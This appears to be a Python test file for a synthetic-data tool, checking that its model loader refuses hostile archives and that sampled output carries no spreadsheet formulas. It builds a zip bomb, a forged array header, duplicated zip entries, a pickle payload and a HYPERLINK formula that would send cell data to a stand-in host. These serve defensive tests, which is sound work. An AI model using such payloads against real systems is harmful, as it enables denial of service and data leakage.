"""Archives and models that were made to fill the memory or to mislead: each ends in a sentence."""

from __future__ import annotations

import io
import json
import time
import zipfile
from hashlib import sha256
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from typer.testing import CliRunner

from fedsynth.cli import app
from fedsynth.model_file import model_of
from synth.errors import FedsynthError, InputError, PlanError
from synth.messages import archive

OLD = Path(__file__).resolve().parents[1] / "compatibility" / "version-0.1.0"
META = np.frombuffer(b"{}", np.uint8)


def sealed(body: bytes) -> bytes:
    """With a checksum that fits: whoever attacks can compute it."""
    return body + sha256(body).digest()


def npy(array: np.ndarray[Any, Any], replaced: tuple[bytes, bytes] = (b"", b"")) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue().replace(*replaced) if replaced[0] else buffer.getvalue()


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


def bomb() -> bytes:
    """A few hundred kilobytes that unpack to 400 MB."""
    return zipped({"__meta__.npy": npy(META), "x.npy": npy(np.zeros(50_000_000))}, zipfile.ZIP_DEFLATED)


def huge_header() -> bytes:
    array = npy(np.zeros(3), (b"(3,), }         ", b"(99999999999,), }"[:16]))
    return zipped({"__meta__.npy": npy(META), "x.npy": array})


def overlapping() -> bytes:
    body = bytearray(zipped({"__meta__.npy": npy(META), "x.npy": npy(np.zeros(4000))}))
    place = body.rfind(b"PK\x01\x02")
    entry = bytes(body[place : body.rfind(b"PK\x05\x06")])
    return bytes(body[:place]) + entry * 200 + bytes(body[body.rfind(b"PK\x05\x06") :])


@pytest.mark.parametrize(
    "body",
    [
        bomb(),
        huge_header(),
        overlapping(),
        zipped({}),
        zipped({"__meta__.npy": npy(np.frombuffer(b"[1]", np.uint8))}),
        zipped({"__meta__.npy": npy(np.frombuffer(b'{"x": NaN}', np.uint8))}),
        zipped({"__meta__.npy": npy(np.frombuffer(b"[" * 50_000, np.uint8))}),
        zipped({"__meta__.npy": npy(META), "x.npy": b"\x80\x04N."}),
        b"",
    ],
    ids=["bomb", "huge header", "overlapping", "empty", "a list", "NaN", "nested", "pickle", "nothing"],
)
def test_hostile_archives_are_refused_before_they_are_unpacked(body: bytes) -> None:
    began = time.monotonic()
    with pytest.raises(InputError, match="file"):
        archive.unpack(sealed(body), "file")
    assert time.monotonic() - began < 5


def hostile(change: Any) -> bytes:
    arrays, meta = archive.unpack((OLD / "marginals" / "model.npz").read_bytes(), "example")
    change(arrays, meta)
    return archive.pack(arrays, meta)


@pytest.mark.parametrize(
    "change",
    [
        lambda arrays, meta: meta.clear(),
        lambda arrays, meta: meta.update(plan=3),
        lambda arrays, meta: arrays.clear() or arrays.update(bins=np.zeros(1)),
        lambda arrays, meta: arrays.update({"bins": np.array(["x"])}),
        lambda arrays, meta: [arrays.update({name: array.ravel()[:1]}) for name, array in list(arrays.items())],
    ],
    ids=["no plan", "no plan but a number", "no arrays", "text for numbers", "cut arrays"],
)
def test_sample_says_in_a_sentence_what_a_hostile_model_is(change: Any, tmp_path: Path) -> None:
    path = tmp_path / "model.npz"
    path.write_bytes(hostile(change))
    result = CliRunner().invoke(app, ["sample", str(path), "--rows", "5"])
    assert isinstance(result.exception, FedsynthError), result.exception
    assert result.exception.exit_code in (2, 4)  # a file, or arrays that a family refuses by itself


FORMULA = '=HYPERLINK("http://example.org?"&A1)'


def with_label(label: str) -> bytes:
    def change(_: object, meta: dict[str, Any]) -> None:
        text = json.dumps(meta["plan"])
        columns = meta["plan"]["schema"]["columns"].values()
        old = next(column["categories"][0] for column in columns if column["kind"] == "categorical")
        meta["plan"] = json.loads(text.replace(json.dumps(old), json.dumps(label)))

    return hostile(change)


def test_formulas_are_not_written_where_a_spreadsheet_would_carry_them_out(tmp_path: Path) -> None:
    path = tmp_path / "model.npz"
    path.write_bytes(with_label(FORMULA))
    refused = CliRunner().invoke(app, ["sample", str(path), "--rows", "5", "-o", str(tmp_path / "x.csv")])
    assert isinstance(refused.exception, InputError)
    drawn = CliRunner().invoke(app, ["sample", str(path), "--rows", "5", "-o", str(tmp_path / "x.parquet")])
    assert drawn.exit_code == 0, drawn.exception


@pytest.mark.parametrize("label", ["-", "+ve", "=0", "- (", "a=SUM(1)", " =x(1)"])
def test_labels_of_laboratories_are_no_formulas(label: str) -> None:
    model = model_of(with_label(label), "model")
    if label == "- (":  # could be one; whoever means it says so in the plan
        with pytest.raises(InputError):
            model.require_no_formulas()
    else:
        model.require_no_formulas()


def test_a_run_that_would_write_formulas_does_not_begin() -> None:
    from aggregator.publish import require_no_formulas

    plan = model_of(with_label(FORMULA), "model").plan
    with pytest.raises(PlanError, match="spreadsheet"):
        require_no_formulas(plan)
    words = plan.model_copy(update={"output": plan.output.model_copy(update={"formulas": "are words"})})
    require_no_formulas(words)
    assert words.digest() != plan.digest()
